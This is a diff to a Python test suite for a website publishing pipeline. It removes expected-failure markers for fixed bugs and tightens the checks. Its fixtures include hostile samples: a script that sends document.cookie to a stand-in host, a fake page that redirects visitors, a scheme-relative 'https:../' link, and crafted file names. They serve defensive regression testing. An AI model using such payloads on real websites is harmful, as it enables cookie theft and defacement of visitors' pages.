@@ -18,6 +18,7 @@ import pytest
 from approvals_helpers import Person, Site, approve_fully
 from publish_helpers import (
     approved_release,
+    download,
     isolated_env,
     live_files,
     office,
@@ -102,11 +103,6 @@ def _held(doc: dict[str, object]) -> dict[str, str]:
 # --- a hostile unapproved file on main must not hold back an approved release (rule 13) ------------
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "an unapproved file whose name holds a backslash (legal in git and on Linux) makes "
-    "pipeline/publish/snapshot.py:84 (_safe: '\\\\' in path) refuse it, and materialize() at "
-    "snapshot.py:99 raises ContentError for the whole run: every approved release stalls. Fix: leave "
-    "such a path out of the candidates (a finding for that file) instead of refusing the snapshot"))
 def test_a_file_name_with_a_backslash_does_not_stop_approved_releases(site: Site) -> None:
     good = approved_release(site, "bantuan-bibit")
     site.write("content/media/foto\\rahasia.jpg", b"not even a photo")
@@ -117,12 +113,6 @@ def test_a_file_name_with_a_backslash_does_not_stop_approved_releases(site: Site
     assert "siaran-pers/2025/bantuan-bibit/index.html" in live_files(site.root)
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "an unapproved item whose file name is not UTF-8 (git allows any bytes) crashes the whole run with a "
-    "traceback: git.ls_tree decodes it with surrogateescape, and compute_digest's path.encode('utf-8') "
-    "(pipeline/content.py:163, called from pipeline/approvals/revisions.py:267 via judge.py:215) raises "
-    "UnicodeEncodeError before anything is judged. Fix: report such a path as a finding for that file and "
-    "leave it out (or encode with surrogateescape) in ls_tree's consumers"))
 def test_an_item_whose_file_name_is_not_utf8_does_not_stop_approved_releases(site: Site) -> None:
     good = approved_release(site, "bantuan-bibit")
     name = os.fsdecode(b"content/berita/2025/berita-\xff.md")
@@ -137,29 +127,19 @@ def test_an_item_whose_file_name_is_not_utf8_does_not_stop_approved_releases(sit
 # --- what an approved page shows is the approved page, and each link its own approved bytes ---------
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a body link to a file named index.html is published as the download <item url>/index.html "
-    "(pipeline/site/build.py:411, url = item.url_path + name), copied after Pelican wrote the page "
-    "(build.py:475), so it replaces the approved page itself (with its archive number and approval "
-    "chain) by raw, unsanitised HTML. Fix: refuse download/lampiran names that collide with the page "
-    "(index.html) or, better, publish downloads under a folder of their own"))
 def test_a_download_named_index_html_does_not_replace_the_page(site: Site) -> None:
     fake = b"<html><body><h1>Halaman palsu</h1><script>document.location='https://x.example'</script></body></html>"
     path = _release_with(site, "surat-edaran", "Unduh [surat](index.html).\n",
                          {"content/siaran-pers/2025/index.html": fake})
     code = publish(site).returncode
-    assert code in (0, 1)
-    html = page(site.root, "siaran-pers/2025/surat-edaran")
-    assert "Halaman palsu" not in html
-    assert path not in records(site.root) or "Surat Edaran" in html
+    assert code == 1  # an HTML download is refused: it would run on the office's site
+    index = site.root / "_site/siaran-pers/2025/surat-edaran/index.html"
+    assert not index.exists() or "Halaman palsu" not in index.read_text(encoding="utf-8")
+    live = site.root / "_site"
+    assert not any(b"Halaman palsu" in f.read_bytes() for f in live.rglob("*") if f.is_file())
+    assert path not in records(site.root)
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "two approved downloads with one file name in different folders (a/surat.pdf, b/surat.pdf) are both "
-    "published as <item url>/surat.pdf (pipeline/site/build.py:411); the second copy overwrites the first "
-    "(build.py:475), so the first link serves bytes its approvers approved for the other link. Fix: "
-    "refuse (finding at path:line) two downloads or lampiran of one item with the same published name, or "
-    "name them uniquely"))
 def test_two_downloads_with_one_name_keep_their_own_bytes(site: Site) -> None:
     _release_with(site, "dua-surat", "Unduh [surat A](a/surat.pdf) dan [surat B](b/surat.pdf).\n",
                   {"content/siaran-pers/2025/a/surat.pdf": PDF, "content/siaran-pers/2025/b/surat.pdf": OTHER_PDF})
@@ -173,11 +153,6 @@ def test_two_downloads_with_one_name_keep_their_own_bytes(site: Site) -> None:
     assert not hrefs or served == {PDF, OTHER_PDF}
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "two lampiran of one informasi-publik item with one file name in different folders are both copied to "
-    "<item url>/<name> (pipeline/site/build.py:420, url = item.url_path + source.name): one attachment "
-    "link serves the other's bytes. "
-    "Fix: as for downloads, refuse or rename colliding published names"))
 def test_two_lampiran_with_one_name_keep_their_own_bytes(site: Site) -> None:
     path = "content/informasi-publik/2025/daftar-uji.md"
     site.switch("rilis/daftar-uji", create=True)
@@ -276,12 +251,6 @@ def test_no_reference_trick_reaches_a_file_outside_the_digest(site: Site) -> Non
         assert paths[name] in held, (name, held.keys())
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "nh3 keeps an <a href> whose scheme is https even without '//' (pipeline/markup.py:150, is_off_site "
-    "looks only at the scheme), and a browser resolves 'https:../../x' on an https site as a RELATIVE "
-    "address (WHATWG URL: same special scheme as the base): the page links a local path that warta never "
-    "resolved against the digest (rule: a page links only files in its digest). Fix: keep an off-site "
-    "href only when it is an absolute URL with an authority (scheme://host), else treat it as a local link"))
 def test_a_scheme_relative_https_link_is_not_a_hidden_local_link(site: Site) -> None:
     approved_release(site, "bantuan-bibit")
     path = _release_with(site, "tautan-licik", "Unduh [surat](https:../bantuan-bibit/).\n", {})
@@ -292,13 +261,6 @@ def test_a_scheme_relative_https_link_is_not_a_hidden_local_link(site: Site) -> 
     assert 'href="https:../' not in html
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a download or lampiran may be any file type: an approved HTML or SVG file with <script> is copied "
-    "as it is onto the office's own origin (pipeline/site/build.py:411 and :420, no suffix check in "
-    "pipeline/content.py _references), so script that nh3 removes from every body runs on the site from a "
-    "download (stored XSS; approvers see a file name, not its script). Fix: an allow-list of download "
-    "types (pdf, docx, xlsx, odt, ods, csv, zip...) with a finding at path:line for others, or serve "
-    "downloads with Content-Disposition: attachment from another origin"))
 def test_no_active_content_is_served_from_a_download(site: Site) -> None:
     script = b"<script>fetch('https://x.example/?c='+document.cookie)</script>"
     _release_with(site, "peta-lokasi", "Lihat [peta](peta.svg) dan [laporan](laporan.html).\n",
@@ -314,13 +276,6 @@ def test_no_active_content_is_served_from_a_download(site: Site) -> None:
 # --- a governed file as a download: the bytes approved are the bytes deployed ------------------------
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "an item may link a file outside content/ that is governed (sop/, warta.yml): its digest covers the "
-    "bytes at main's tip, but pipeline/publish/items.py:63 keeps only content/ paths in items.files, so "
-    "the published tree serves the governed copy at the last trusted state (snapshot.governed, "
-    "pipeline/publish/site.py:30): with an unapproved governance change pending, the deployed download is "
-    "not the bytes the item's officials approved. Fix: refuse references outside content/ (finding at "
-    "path:line), or put every referenced blob of main's tree in items.files"))
 def test_a_governed_file_linked_as_a_download_is_deployed_as_approved(site: Site) -> None:
     trusted = site.file_bytes("sop/rilis-uji.yaml")
     pending = trusted + b"# perubahan yang belum disahkan\n"
@@ -395,7 +350,7 @@ def test_a_deleted_item_keeps_its_approved_page_and_download(site: Site) -> None
     site.write("content/siaran-pers/2025/surat-edaran.pdf", SECRET)  # and another file in its place
     site.commit("Hapus rilis", site.cast["rina"])
     assert publish(site).returncode in (0, 1)
-    assert (site.root / "_site/siaran-pers/2025/surat-edaran/surat-edaran.pdf").read_bytes() == PDF
+    assert download(site.root, "siaran-pers/2025/surat-edaran", "surat-edaran.pdf").read_bytes() == PDF
     assert "Surat Edaran" in page(site.root, "siaran-pers/2025/surat-edaran")
 
 
@@ -411,8 +366,8 @@ def test_a_held_change_publishes_the_last_version_with_its_own_references(site: 
     code, doc = publish_json(site)
     assert code == 1 and path in _held(doc)
     folder = site.root / "_site/siaran-pers/2025/surat-edaran"
-    assert (folder / "surat-edaran.pdf").read_bytes() == PDF
-    assert not (folder / "lain.pdf").exists()
+    assert download(site.root, "siaran-pers/2025/surat-edaran", "surat-edaran.pdf").read_bytes() == PDF
+    assert not list(folder.rglob("lain.pdf"))
     assert not any(b"RAHASIA" in data for data in _site_bytes(site))
 
 
